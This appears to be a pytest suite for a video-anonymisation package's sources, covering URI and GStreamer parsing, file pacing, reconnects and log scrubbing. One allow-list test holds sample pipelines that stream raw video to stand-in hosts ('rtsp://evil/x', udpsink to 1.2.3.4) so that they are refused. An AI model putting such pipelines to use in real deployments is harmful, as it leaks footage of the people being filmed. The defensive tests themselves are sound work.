"""Sources: URI parsing, GStreamer pipelines, file order/loop/pacing, newest-frame grabbing, reconnect."""

from __future__ import annotations

import shutil
import threading
import time
from pathlib import Path

import cv2
import pytest

from devkit.daemon_kit import make_clip
from edgeanon.config import SourceConfig
from edgeanon.sources import (
    APPSINK,
    Backoff,
    FileSource,
    LiveSource,
    SourceEnded,
    SourceError,
    _gstreamer_available,
    open_source,
    parse_uri,
)

FRAMES = 8


@pytest.fixture(scope="module")
def clip(tmp_path_factory) -> Path:
    return make_clip(tmp_path_factory.mktemp("clip") / "faces.avi", frames=FRAMES, size=(320, 180), fps=10.0)


def read_all(source, limit: int = 100) -> list:
    frames = []
    with pytest.raises(SourceEnded):
        for _ in range(limit):
            frame = source.read(timeout=1.0)
            if frame is not None:
                frames.append(frame)
    return frames


def test_csi_pipeline_keeps_only_the_newest_buffer():
    kind, pipeline = parse_uri("csi://1", SourceConfig(uri="csi://1", width=1920, height=1080, fps=30))
    assert kind == "csi"
    assert pipeline.startswith("nvarguscamerasrc sensor-id=1 ! ")
    assert "width=1920,height=1080,framerate=30/1" in pipeline
    assert pipeline.endswith("appsink drop=true max-buffers=1")
    with pytest.raises(SourceError, match="sensor number"):
        parse_uri("csi://front")


def test_gst_v4l2_rtsp_file_uris():
    assert parse_uri("gst://videotestsrc ! videoconvert") == (
        "gst", f"videotestsrc ! videoconvert ! videoconvert ! video/x-raw,format=BGR ! {APPSINK}")
    mine = "videotestsrc ! appsink name=s"
    assert parse_uri(f"gst://{mine}") == ("gst", mine)
    assert parse_uri("v4l2:///dev/video3") == ("v4l2", "/dev/video3")
    assert parse_uri("v4l2://2") == ("v4l2", "/dev/video2")
    assert parse_uri("rtsp://u:p@cam/stream") == ("rtsp", "rtsp://u:p@cam/stream")
    assert parse_uri("file:///data/a.mp4") == ("file", "/data/a.mp4")
    with pytest.raises(SourceError, match="names the host .relative.mp4."):
        parse_uri("file://relative.mp4")
    with pytest.raises(SourceError, match="unknown scheme"):
        parse_uri("http://x")


@pytest.mark.skipif(_gstreamer_available(), reason="this OpenCV has GStreamer")
def test_csi_without_gstreamer_is_a_clear_error():
    with pytest.raises(SourceError, match="without GStreamer"):
        open_source(SourceConfig(uri="csi://0"))


def test_file_every_frame_in_order_then_ends(clip):
    source = open_source(SourceConfig(uri=f"file://{clip}"))
    assert isinstance(source, FileSource)
    frames = read_all(source)
    assert [f.index for f in frames] == list(range(FRAMES))
    assert [round(f.timestamp, 3) for f in frames] == [round(i / 10.0, 3) for i in range(FRAMES)]
    assert frames[0].image.shape == (180, 320, 3)
    assert "180, 320, 3" in repr(frames[0]) and "array" not in repr(frames[0])
    source.close()


def test_file_loop_continues_index_and_time(clip):
    source = FileSource(str(clip), loop=True)
    frames = [source.read() for _ in range(FRAMES * 2 + 3)]
    assert [f.index for f in frames] == list(range(FRAMES * 2 + 3))
    times = [f.timestamp for f in frames]
    assert all(b > a for a, b in zip(times, times[1:]))
    assert source.stats()["loops"] == 2
    source.close()


def test_file_realtime_is_paced_at_least_at_file_rate(clip):
    source = FileSource(str(clip), realtime=True)
    start = time.monotonic()
    frames = read_all(source)
    assert len(frames) == FRAMES
    assert time.monotonic() - start >= (FRAMES - 1) / 10.0


def test_file_realtime_skips_the_frames_a_slow_reader_missed_as_a_camera_would(clip):
    source = FileSource(str(clip), realtime=True)
    first = source.read()
    time.sleep(3.5 / 10.0)  # three and a half frame times busy elsewhere
    second = source.read()
    skipped = source.stats()["skipped"]
    assert first.index == 0 and skipped >= 2, "frames 1 and 2 were due while the reader slept"
    assert second.index == 1 + skipped and second.timestamp == pytest.approx(second.index / 10.0)
    source.close()


def test_missing_file_is_retried_then_read(clip, tmp_path, caplog):
    target = tmp_path / "later.avi"
    source = FileSource(str(target), backoff=Backoff(0.05, 0.2))
    assert source.read(timeout=0.1) is None
    assert source.read(timeout=0.1) is None
    assert "not found; retrying" in caplog.text
    shutil.copy(clip, target)
    deadline = time.monotonic() + 5
    frame = None
    while frame is None and time.monotonic() < deadline:
        frame = source.read(timeout=0.1)
    assert frame is not None and frame.index == 0
    source.close()


def test_backoff_doubles_and_resets():
    b = Backoff(0.5, 3.0)
    assert [b.next() for _ in range(5)] == [0.5, 1.0, 2.0, 3.0, 3.0]
    b.reset()
    assert b.next() == 0.5


def test_missing_v4l2_device_retries_without_crashing(caplog):
    source = open_source(SourceConfig(uri="v4l2:///dev/video97", reconnect_min_s=0.05, reconnect_max_s=0.1))
    assert isinstance(source, LiveSource)
    assert source.read(timeout=0.5) is None
    assert caplog.text.count("/dev/video97 not present; retrying") >= 2
    assert source.stats()["connected"] is False
    source.close()


def test_live_source_hands_over_newest_frame_and_reopens(clip):
    # A real capture on the clip plays the camera: it ends (camera lost) and is reopened.
    opens = []

    def opener():
        opens.append(1)
        return cv2.VideoCapture(str(clip))

    source = LiveSource("test://clip", opener, Backoff(0.01, 0.05))
    seen = []
    deadline = time.monotonic() + 10
    while len(opens) < 3 and time.monotonic() < deadline:
        frame = source.read(timeout=1.0)
        if frame is not None:
            seen.append(frame.index)
            time.sleep(0.05)  # slower than the grabber: it must keep only the latest
    source.close()
    assert len(opens) >= 3, "a lost capture is reopened"
    assert seen == sorted(seen) and len(set(seen)) == len(seen), "never an old or repeated frame"
    stats = source.stats()
    assert stats["reconnects"] >= 2
    assert stats["skipped"] > 0, "older frames were replaced by newer ones"


def test_credentials_never_reach_logs():
    """safe_uri is the one scrubber (edgeanon.scrub); tests/runtime/test_scrub.py reads real log lines and stderr."""
    from edgeanon.sources import safe_uri

    assert safe_uri("rtsp://admin:hunter2@10.0.0.5:554/stream") == "rtsp://***@10.0.0.5:554/stream"
    assert safe_uri("rtsp://admin:p@ss@host/s") == "rtsp://***@host/s"
    assert safe_uri("file:///a@b/clip.mp4") == "file:///a@b/clip.mp4"


@pytest.mark.parametrize("pipeline", [
    "nvarguscamerasrc sensor-id=0 ! video/x-raw(memory:NVMM),width=1280,height=720 ! nvvidconv ! "
    "video/x-raw,format=BGRx ! videoconvert ! video/x-raw,format=BGR ! appsink drop=true",
    "rtspsrc location=rtsp://u:p@cam/s latency=200 ! rtph264depay ! h264parse ! nvv4l2decoder ! nvvidconv",
    "filesrc location=\"/data/my clip.mp4\" ! qtdemux ! h264parse ! avdec_h264 ! videoconvert",
    "v4l2src device=/dev/video1 ! video/x-raw, format=YUY2 ! videoconvert ! queue ! appsink name=s",
])
def test_gst_allow_list_accepts_capture_and_decode(pipeline):
    kind, target = parse_uri(f"gst://{pipeline}")
    assert kind == "gst" and target.rstrip().split(" ! ")[-1].startswith("appsink")


@pytest.mark.parametrize("pipeline, named", [
    ("videotestsrc ! tee name=t ! queue ! appsink t. ! queue ! udpsink host=10.0.0.9 port=5000", "'tee'"),
    ("videotestsrc ! filesink location=/var/tmp/raw.yuv", "'filesink'"),
    ("v4l2src ! x264enc ! rtspclientsink location=rtsp://evil/x", "'x264enc'"),
    ("v4l2src ! videoconvert ! rtspclientsink location=rtsp://evil/x", "'rtspclientsink'"),
    ("v4l2src ! videoconvert ! udpsink host=1.2.3.4", "'udpsink'"),
    ("v4l2src ! videoconvert ! tcpserversink port=9000", "'tcpserversink'"),
    ("v4l2src ! appsink ! appsink", "'appsink' must be the last"),
    ("udpsrc port=5000 ! rtph264depay ! avdec_h264", "'udpsrc'"),
    ("v4l2src ! identity dump=true ! appsink", "'identity'"),
    ("v4l2src ! videoconvert t. ! queue ! appsink", "'t.' after 'videoconvert'"),
    ("v4l2src ! multiqueue ! appsink", "'multiqueue'"),
])
def test_gst_allow_list_refuses_sinks_tees_and_senders(pipeline, named):
    """Elements that run before edgeanon sees a frame could send raw video away: refused, by name."""
    with pytest.raises(SourceError) as err:
        parse_uri(f"gst://{pipeline}")
    assert named in str(err.value), str(err.value)
    assert "\n" not in str(err.value)


class HungCapture:
    """A capture whose read() never returns, like a hung camera driver (no way to hang real hardware here)."""

    def __init__(self):
        self.unblock = threading.Event()

    def isOpened(self) -> bool:  # noqa: N802 - OpenCV's name
        return True

    def get(self, prop: int) -> float:  # a driver that declares no frame size, as some do
        return 0.0

    def read(self):
        self.unblock.wait()
        return False, None

    def release(self) -> None:
        self.unblock.set()


def test_a_hung_capture_is_reported_as_stalled():
    hung = HungCapture()
    source = LiveSource("test://hung", lambda: hung, Backoff(0.05, 0.1))
    try:
        assert source.read(timeout=0.5) is None
        assert source.stats()["connected"] is True
        assert source.stalled_s() >= 0.4
    finally:
        hung.unblock.set()
        source.close()
    assert source.stalled_s() == 0.0
